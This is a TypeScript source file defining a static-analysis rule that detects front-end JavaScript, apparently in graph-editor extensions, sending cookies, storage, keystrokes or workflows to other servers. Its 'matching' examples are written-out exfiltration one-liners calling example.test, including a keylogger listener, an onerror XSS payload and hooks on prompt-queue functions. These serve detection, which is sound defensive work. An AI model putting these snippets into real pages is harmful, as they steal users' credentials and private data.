import { notAcross, sequence } from '../../ground/text-search.ts'
import { argumentsOf, type CodeFacts } from '../flow/code-facts.ts'
import type { Call } from '../flow/flow.ts'
import { areLoopback, isPlayerHost, outerHostOf } from '../flow/hosts.ts'
import { sendsAway } from '../flow/javascript-library.ts'
import { has } from '../flow/values.ts'
import { callHits } from './code-calls.ts'
import type { CodeRule } from './rule.ts'

const isAssignment = (name: string) => name.endsWith('=')

export const pageDataSent: CodeRule = {
  of: 'javascript',
  id: 'page-data-sent',
  severity: 'high',
  why: 'Cookies, the page’s storage and what a user types hold keys and passwords.',
  fix: 'Send only what the service needs, by name, and tell the user.',
  examples: {
    matching: [
      'fetch("https://example.test/c?d=" + document.cookie)',
      'navigator.sendBeacon("https://example.test", JSON.stringify(localStorage))',
      'document.addEventListener("keydown", (e) => fetch("https://example.test/k", { method: "POST", body: e.key }))',
      'document.addEventListener("input", (e) => navigator.sendBeacon("https://example.test", e.target.value))',
      'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"fetch(\'//example.test/\'+document.cookie)\\">")',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a template string of the script that is looked at
      'new Image().src = `https://example.test/?c=${encodeURIComponent(document["coo" + "kie"])}`',
      'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch("https://example.test/g", { method: "POST", body: JSON.stringify(g) })',
      'import { api } from "../../scripts/api.js"; const old = api.queuePrompt; api.queuePrompt = function (n, data) { navigator.sendBeacon("https://example.test/q", JSON.stringify(data)); return old.call(this, n, data) }',
      'import { app } from "../../scripts/app.js"; const f = document.createElement("iframe"); app.graph._nodes.forEach((n) => { f.src = "https://example.test/embed/" + n.properties.url })',
      'LGraphNode.prototype.onWidgetChanged = function (name, value) { navigator.sendBeacon("https://example.test/w", name + value) }',
      'LiteGraph.LGraphNode.prototype.onSerialize = (data) => { fetch("https://example.test/w", { method: "POST", body: JSON.stringify(data) }) }',
      'const d = {...localStorage}; const x = new XMLHttpRequest(); x.open("POST", "https://example.test"); x.send(JSON.stringify(d))',
    ],
    harmless: [
      'fetch("/api/save", { method: "POST", body: JSON.stringify(localStorage) })',
      'LGraphNode.prototype.onWidgetChanged = function (name, value) { fetch("/mypack/w", { method: "POST", body: name + value }) }',
      'node.onWidgetChanged = function (name, value) { fetch("https://example.test/search", { method: "POST", body: value }) }',
      'fetch("https://example.test/x", { headers: { a: localStorage.getItem("my-key") } })',
      'document.addEventListener("keydown", (e) => run(e.key))',
      'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch("/mypack/g", { method: "POST", body: JSON.stringify(g) })',
      'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch(app.shareAddress, { method: "POST", body: JSON.stringify(g) })',
      'field.addEventListener("input", (e) => fetch("https://example.test/translate", { method: "POST", body: e.target.value }))',
      'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"this.remove()\\">")',
      'import { app } from "../../scripts/app.js"; const f = document.createElement("iframe"); app.graph._nodes.forEach((n) => { f.src = "https://www.youtube.com/embed/" + n.properties.url })',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      if (
        writesPage.test(call.name) &&
        call.args.some(({ texts }) => texts.some((one) => tellingHandler.test(one)))
      )
        return { message: 'Writes an element into the page that sends away cookies or storage.' }
      if (isSubmitted(facts, call))
        return { message: 'Puts cookies, storage or the workflow into a form for another server.' }
      if (!sendsAway.test(call.name) || staysHome(facts, call)) return undefined
      const values = argumentsOf(call)
      const isOwn =
        !isAssignment(call.name) &&
        values[0] !== undefined &&
        values[0].texts.length > 0 &&
        values[0].texts.every((text) => text.startsWith('/') || areLoopback([text]))
      const isPrivate = values.some((value) => has(value, 'storage')) || isSpied(call)
      if (isGivenAway(facts, call))
        return { message: 'Sends the user’s prompts, workflows or settings away.' }
      return !isOwn && isPrivate
        ? { message: 'Sends away cookies, storage or what the user types.' }
        : undefined
    }),
}

const writesPage = /(insertAdjacentHTML|createContextualFragment|document\.write(ln)?|(inner|outer)HTML=)$/

/** Event handler code that reads data stored by the page. */
const tellingHandler = sequence(
  /</,
  notAcross(/>/, /\bon\w+\s*=/i),
  notAcross(/>/, /\b(document\s*\.\s*cookie|localStorage|sessionStorage)\b/i),
)

/** The user's input, or data that the page sends, goes to a literal address. */
function isSpied({ args }: Call): boolean {
  const isElsewhere = args[0]?.texts.some((text) => outerHostOf(text) !== '') === true
  return isElsewhere && args.some((value) => has(value, 'spying'))
}

/** Whether prompts, workflows or settings go to another server that the source names. */
function isGivenAway({ calls }: CodeFacts, call: Call): boolean {
  if (!argumentsOf(call).some((value) => has(value, 'private'))) return false
  if (sendsToBrowser(call)) return true
  const others = openedBy.find(([name]) => name.test(call.name))
  const addressed = others ? calls.filter(({ name }) => others[1].test(name)) : [call]
  return addressed.some(({ args }) =>
    args.some(({ texts }) =>
      texts
        .filter((text) => !isPlayerHost(text))
        .map(hostInStyle)
        .some((host) => host !== '' && !/(^|\.)comfy\.org$/.test(host)),
    ),
  )
}

/** Styles name addresses as `url(…)`. */
function hostInStyle(text: string): string {
  return outerHostOf(text.replace(/^[^(]{0,100}\burl\(["']?/, ''))
}

/** Calls whose receiver another call names. */
const openedBy: [RegExp, RegExp][] = [
  [/\.send$/, /^(XMLHttpRequest\(\)\.open|WebSocket)$/],
  [/\.postMessage$/, /^(element:iframe\.src=|(globalThis\.)?open)$/],
]

/** Whether a field of a form for another server gets what is private. */
function isSubmitted({ calls }: CodeFacts, { name, args }: Call): boolean {
  if (!/^element:(input|textarea)\.value=$/.test(name)) return false
  if (!args.some((value) => has(value, 'storage', 'private'))) return false
  return calls.some(
    (one) =>
      one.name === 'element:form.action=' &&
      one.args.some(({ texts }) => texts.some((text) => outerHostOf(text) !== '')),
  )
}

/** The other browser is a stranger's, however the two found each other. */
const sendsToBrowser = ({ name }: Call) => name === 'RTCDataChannel().send'

/** Whether a request opened in another call stays local: no address in the file has a host. */
function staysHome({ calls }: CodeFacts, call: Call): boolean {
  if (!/\.send$/.test(call.name) || sendsToBrowser(call)) return false
  return !calls.some(
    (one) =>
      /^(XMLHttpRequest\(\)\.open|WebSocket)$/.test(one.name) &&
      one.args.some((arg) => arg.texts.some((text) => outerHostOf(text) !== '')),
  )
}
